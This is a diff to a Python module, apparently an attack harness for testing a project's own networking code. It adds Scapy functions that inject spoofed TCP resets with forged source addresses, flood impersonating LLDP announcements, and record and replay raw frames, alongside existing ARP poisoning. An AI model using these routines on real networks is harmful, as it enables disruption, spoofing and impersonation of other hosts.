@@ -3,27 +3,36 @@
 python -m qmn.attacks.frames poison INTERFACE VICTIM_IP VICTIM_MAC POSED_IP
 python -m qmn.attacks.frames stations INTERFACE COUNT TO_MAC
 python -m qmn.attacks.frames set-ups INTERFACE COUNT TO_MAC OWN_IP TO_IP
+python -m qmn.attacks.frames resets INTERFACE COUNT TO_MAC POSED_IP TO_IP FROM_PORT
+python -m qmn.attacks.frames announcements INTERFACE COUNT POSED_NAME POSED_IP
+python -m qmn.attacks.frames record INTERFACE
+python -m qmn.attacks.frames repeated INTERFACE COUNT FRAME [FRAME ...]
 """
 
 import argparse
+import secrets
 import select
 import signal
 import socket
 import struct
 import time
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
 from ipaddress import IPv4Address
+from itertools import cycle, islice
 from types import FrameType
 
 from scapy.layers.inet import IP, TCP
 from scapy.layers.l2 import ARP, Ether
 
-from qmn.timeouts import LIE_PERIOD_S
+from hosts.hardware.lldp import ETHER_TYPE, announcement
+from qmn.timeouts import LIE_PERIOD_S, TOLD_TIMEOUT_S
+from wire.features import EVERYTHING, NodeFeatures
 from wire.metadata import METADATA_PORT, Service, Setup
 
 BEFORE_TOLD = 20  # lies, more than a kernel overhears because it has asked a second ago
 FRAMES_A_SECOND = 500
 FIRST_PORT = 20_000
+TTL_S = 120  # that an announcement holds
 LOCAL = 0x88B5  # EtherType of IEEE 802 for experiments
 ETHERNET = struct.Struct("!6s6sH")
 ADDRESSES = struct.Struct("!4s4s")
@@ -113,6 +122,54 @@ def set_ups(interface: str, count: int, to_mac: str, own: str, to: str) -> int:
     return sent(interface, frames)
 
 
+def resets(interface: str, count: int, to_mac: str, posed: str, to: str, port: str) -> int:
+    """Send so many RSTs of a connection, each at a place that is guessed."""
+    mac = own_mac(opened(interface))
+    frames = (
+        bytes(
+            Ether(src=mac, dst=to_mac)
+            / IP(src=posed, dst=to)
+            / TCP(
+                sport=int(port),
+                dport=METADATA_PORT,
+                flags="RA",
+                seq=secrets.randbits(32),
+                ack=secrets.randbits(32),
+            )
+        )
+        for _ in range(count)
+    )
+    return sent(interface, frames)
+
+
+def announcements(interface: str, count: int, name: str, address: str) -> int:
+    """Announce as many fibres in the name of another as there are to be frames."""
+    mac, node_features = own_mac(opened(interface)), NodeFeatures(EVERYTHING, 8)
+    frames = (
+        announcement(name, f"{name}-x{number}", address, mac, TTL_S, node_features)
+        for number in range(count)
+    )
+    return sent(interface, frames)
+
+
+def record(interface: str) -> int:
+    """Print the next frame of LLDP that leaves an interface, in hexadecimal."""
+    channel, deadline = opened(interface), time.monotonic() + TOLD_TIMEOUT_S
+    while (left_s := deadline - time.monotonic()) > 0:
+        if select.select([channel], [], [], left_s)[0]:
+            frame, place = channel.recvfrom(65_536)
+            leaves = place[2] == socket.PACKET_OUTGOING
+            if leaves and frame[12:14] == ETHER_TYPE.to_bytes(2, "big"):
+                print(f"frame={frame.hex()}", flush=True)
+                return 1
+    return 0
+
+
+def repeated(interface: str, count: int, *frames: str) -> int:
+    """Send frames, in turn."""
+    return sent(interface, islice(cycle(map(bytes.fromhex, frames)), count))
+
+
 def sent(interface: str, frames: Iterable[bytes]) -> int:
     """Send frames at a pace that queues of today bear; return how many."""
     channel, number = opened(interface), 0
@@ -123,19 +180,28 @@ def sent(interface: str, frames: Iterable[bytes]) -> int:
     return number
 
 
+ONCE: dict[str, Callable[..., int]] = {"poison": poison, "record": record}
+COUNTED: dict[str, Callable[..., int]] = {
+    "stations": stations,
+    "set-ups": set_ups,
+    "resets": resets,
+    "announcements": announcements,
+    "repeated": repeated,
+}
+
+
 def main() -> None:
     """Do one of them, and print how many."""
     parser = argparse.ArgumentParser(prog="python -m qmn.attacks.frames", description=__doc__)
-    parser.add_argument("what", choices=["poison", "stations", "set-ups"])
+    parser.add_argument("what", choices=[*ONCE, *COUNTED])
     parser.add_argument("words", nargs="+")
     arguments = parser.parse_args()
     interface, *words = arguments.words
-    if arguments.what == "poison":
-        print(f"count={poison(interface, *words)}", flush=True)
-    elif arguments.what == "stations":
-        print(f"count={stations(interface, int(words[0]), words[1])}", flush=True)
+    if arguments.what in ONCE:
+        count = ONCE[arguments.what](interface, *words)
     else:
-        print(f"count={set_ups(interface, int(words[0]), *words[1:])}", flush=True)
+        count = COUNTED[arguments.what](interface, int(words[0]), *words[1:])
+    print(f"count={count}", flush=True)
 
 
 if __name__ == "__main__":
